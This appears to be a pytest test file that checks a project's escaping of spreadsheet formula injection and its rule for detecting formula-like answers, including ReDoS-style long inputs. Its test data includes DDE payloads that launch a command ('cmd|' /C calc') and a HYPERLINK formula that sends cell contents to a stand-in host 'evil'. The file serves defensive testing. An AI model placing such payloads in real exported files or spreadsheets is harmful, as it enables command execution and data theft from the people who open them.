"""What a spreadsheet would run: as an answer it fails, in a file it is escaped."""

import pytest

from overnight import formulas
from overnight.validation import rules


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "@SUM(A1)",
        "-cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "+1=2",
        "-3*'other file'!A1",
        '+HYPERLINK("x")',
        "+1e1-cmd|'/c calc'!A0",
        '-1E1*HYPERLINK("http://evil/?"&A1,"open")',
        "+1.5e-3+2E+1-cmd|'/c calc'!A0",
    ],
)
def test_what_can_only_be_a_formula_fails_and_is_escaped(text: str) -> None:
    """Blank room before it hides it from a spreadsheet only until somebody trims the cell."""
    assert formulas.escaped(text) == f"'{text}"
    for said in (text, f"  {text}", f"\t{text}"):
        assert rules.formula(said)


@pytest.mark.parametrize(
    "text", ["-20 % on all tents", "- 3 for 2 (this week)", "+49 30 1234567", "-€5 with code WARM5", "-4 °C at night"]
)
def test_a_number_with_a_sign_is_none_for_either(text: str) -> None:
    """A discount fails no answer, and goes out as it was approved (with one apostrophe where a bracket or a bar follows)."""
    assert formulas.escaped(text).removeprefix("'") == text
    assert ("(" in text or "|" in text) or formulas.escaped(text) == text
    assert not rules.formula(text)


@pytest.mark.parametrize("text", ["- «Bonjour»", "-- and that was it"])
def test_a_dash_before_no_call_fails_no_answer_and_is_escaped_all_the_same(text: str) -> None:
    """In a file it costs one apostrophe; an answer would have been paid for twice."""
    assert formulas.escaped(text) == f"'{text}"
    assert not rules.formula(text)


@pytest.mark.parametrize(
    "text", ["+1" + " - 1" * 2_000 + " x", "- " * 5_000 + "x", "+1e" + "1" * 5_000 + "x", "+" + " 1" * 5_000]
)
def test_a_text_of_dashes_and_figures_is_judged_at_once(text: str) -> None:
    """Cut in every possible way it would take days, and hold the task that judges it."""
    assert rules.formula(text) == ""
    formulas.escaped(text)
